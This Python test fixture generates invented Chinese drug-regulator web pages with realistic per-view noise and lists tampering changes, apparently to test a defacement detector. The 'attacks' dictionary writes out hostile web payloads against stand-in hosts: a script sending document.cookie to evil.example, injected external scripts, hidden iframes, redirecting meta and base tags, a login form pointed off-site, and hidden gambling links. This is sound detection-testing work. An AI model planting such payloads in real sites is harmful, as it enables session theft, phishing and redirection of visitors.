# ruff: noqa: E501 - patterns and pages stay on their lines
"""Pages of invented offices for the tests of tampering: views that differ as views do, and views somebody changed."""

from __future__ import annotations

import random
from collections.abc import Callable

TITLES = ["省药品监督管理局", "药品追溯协同平台", "疫苗监管门户", "医疗器械备案公示", "Drug Licence Service"]
NEWS = [f"关于开展第{n}批药品抽检工作的通知" for n in range(1, 40)]
LICENCES = ["国药准字H20240021", "国药准字Z20230117", "京药监械经营备20240099号", "粤20230045"]
HOSTS = ["https://beian.example.cn", "https://www.gov.example.cn"]


class Site:
    """A site with its own fixed content; ``view`` is one view of it, lively as its seed says."""

    def __init__(self, seed: int) -> None:
        chance = random.Random(seed)
        self.seed = seed
        self.title = chance.choice(TITLES)
        self.news = chance.sample(NEWS, 8)
        self.licences = chance.sample(LICENCES, 3)
        self.phone = f"010-{chance.randrange(10**7, 10**8)}"
        self.banners = [f"/static/banner-{n}.jpg" for n in range(6)]
        self.adverts = chance.random() < 0.5

    def view(self, number: int) -> str:
        chance = random.Random(self.seed * 1_000 + number)
        token = "".join(chance.choices("0123456789abcdef", k=32))
        other = "".join(chance.choices("ABCDEFGHabcdefgh0123456789", k=28))
        hour, minute, second = chance.randrange(24), chance.randrange(60), chance.randrange(60)
        day = 1 + number % 28
        rows = "".join(
            f'<li><a href="/news/{100 + n}.html?t={chance.randrange(10**9)}">{text}</a><span>2026-11-{day:02d}</span>'
            f"<em>浏览 {chance.randrange(10_000)} 次</em></li>"
            for n, text in enumerate(self.news)
        )
        licences = "".join(f"<tr><td>{each}</td><td>有效</td></tr>" for each in self.licences)
        advert = f'<img class="banner" src="{chance.choice(self.banners)}" alt="banner">' if self.adverts else ""
        return f"""<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><title>{self.title}</title>
<meta name="csrf-token" content="{token}"><link rel="stylesheet" href="/static/app.{token[:8]}.css?v={chance.randrange(99)}">
<script nonce="{other}" src="/static/app.js?_={chance.randrange(10**9)}"></script></head>
<body data-request="{token}"><!-- generated {hour}:{minute}:{second} by node{chance.randrange(9)} -->
<header><h1>{self.title}</h1><p>今天是2026年11月{day}日 星期{"一二三四五六日"[day % 7]} {hour:02d}:{minute:02d}:{second:02d} {chance.randrange(-5, 30)}℃</p></header>
{advert}<form action="/login;jsessionid={token.upper()}" method="post"><input type="hidden" name="__csrf" value="{other}">
<input name="user" placeholder="用户名"><input type="password" name="password"></form>
<ul class="news">{rows}</ul><table>{licences}</table>
<script>var session_id = "{token}"; var now = {1_790_000_000_000 + number * 977}; track("page", {{ts: {chance.randrange(10**10)}}});</script>
<footer>联系电话:{self.phone} 总访问量:{chance.randrange(10**6):,} 当前在线 {chance.randrange(999)} 人
<a href="{HOSTS[0]}/icp">京ICP备12345678号</a> 页面处理 {chance.randrange(900)} ms</footer></body></html>"""


def _put(before: str, text: str) -> Callable[[str], str]:
    def change(page: str) -> str:
        assert before in page
        return page.replace(before, text + before, 1)

    return change


def _swap(before: str, after: str) -> Callable[[str], str]:
    def change(page: str) -> str:
        assert before in page, before
        return page.replace(before, after, 1)

    return change


def attacks(site: Site) -> dict[str, Callable[[str], str]]:
    """What intruders and mistakes do to a page."""
    return {
        "defaced": lambda page: "<html><body bgcolor=black><h1>Hacked by nobody</h1></body></html>",
        "title": _swap(f"<title>{site.title}", "<title>澳门娱乐在线"),
        "heading": _swap(f"<h1>{site.title}", f"<h1>{site.title}(已停用)"),
        "script from elsewhere": _put("</head>", '<script src="https://cdn.evil.example/x.js"></script>'),
        "script inline": _put("</body>", "<script>document.location='https://evil.example/?'+document.cookie</script>"),
        "script changed": _swap('track("page"', 'steal("page"'),
        "frame": _put("</body>", '<iframe src="https://evil.example/" width=0 height=0></iframe>'),
        "refresh": _put("</head>", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
        "form leads away": _swap('action="/login', 'action="https://evil.example/login'),
        "handler": _swap("<body ", "<body onload=\"fetch('https://evil.example')\" "),
        "hidden links": _put("</body>", '<div style="display:none"><a href="https://bet.example/">时时彩</a></div>'),
        "link leads away": _swap(f'href="{HOSTS[0]}/icp"', 'href="https://evil.example/icp"'),
        "headline": _swap(site.news[3], "特大喜讯:免费领取药品"),
        "licence number": _swap(site.licences[1], "国药准字H99999999"),
        "licence state": _swap("<td>有效</td>", "<td>已注销</td>"),
        "telephone": _swap(site.phone, "010-00000000"),
        "picture": _put("<footer>", '<img src="/upload/pwned.png">'),
        "news missing": lambda page: page.replace(page[page.index("<li>") : page.index("</li>") + 5], "", 1),
        "row added": _put("</table>", "<tr><td>国药准字H00000000</td><td>有效</td></tr>"),
        "base": _put("</head>", '<base href="https://evil.example/">'),
        "object": _put("</body>", '<object data="https://evil.example/a.swf"></object>'),
        "link of script": _put("</footer>", '<a href="javascript:alert(1)">更多</a>'),
        "record number": _swap("京ICP备12345678号", "京ICP备87654321号"),
        "form added": _put("</footer>", '<form action="/upload.php"><input type="file" name="f"></form>'),
        "text in footer": _put("<footer>", "<p>本站域名出售</p>"),
    }
